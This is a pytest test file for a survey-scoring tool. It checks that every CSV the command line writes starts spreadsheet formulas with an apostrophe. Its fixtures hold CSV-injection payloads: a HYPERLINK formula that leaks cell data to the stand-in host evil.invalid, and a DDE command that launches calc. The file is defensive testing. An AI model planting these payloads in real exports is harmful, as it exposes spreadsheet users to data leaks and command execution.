"""Every CSV the command line writes goes through the export module's writer: a cell that a
spreadsheet would run as a formula (from instrument texts, response ids or group names) starts
with an apostrophe, on standard output and in --out files alike."""

import csv
import io

import pytest

from scoring.__main__ import main
from tests.conftest import base_spec

FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'


def cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text)))
    return [c for row in rows for c in row]


def assert_neutral(text: str) -> None:
    found = cells(text)
    assert any(c.startswith("'=HYPERLINK") for c in found), found[:20]
    assert not [c for c in found if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not _number(c))], found


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


@pytest.fixture
def hostile(write, tmp_path):
    spec = base_spec(title=FORMULA)
    spec["sections"][0]["items"][0]["text"] = FORMULA
    spec["sections"][0]["items"][1]["text"] = "+cmd|' /C calc'!A0"
    inst = write(spec)
    answers = tmp_path / "a.csv"
    with answers.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["response_id", "q1", "q2", "q3", "provider"])
        for k in range(12):
            w.writerow([FORMULA if k == 0 else f"@r{k}", "yes", 5, 1, FORMULA if k % 2 else "-2+3"])
    return str(inst), str(answers)


@pytest.mark.parametrize("to_file", [False, True], ids=["stdout", "out-file"])
@pytest.mark.parametrize("command", ["codebook", "score", "aggregate"])
def test_cli_csv_is_formula_neutral(command, to_file, hostile, tmp_path, capsys):
    inst, answers = hostile
    args = {"codebook": ["codebook", inst],
            "score": ["score", "--instrument", inst, "--answers", answers],
            "aggregate": ["aggregate", "--instrument", inst, "--answers", answers, "--by", "provider",
                          "--min-group", "5"]}[command]
    out = tmp_path / "out.csv"
    code = main(args + (["--out", str(out)] if to_file else []))
    text = out.read_text() if to_file else capsys.readouterr().out
    assert code == 0, text
    assert_neutral(text)
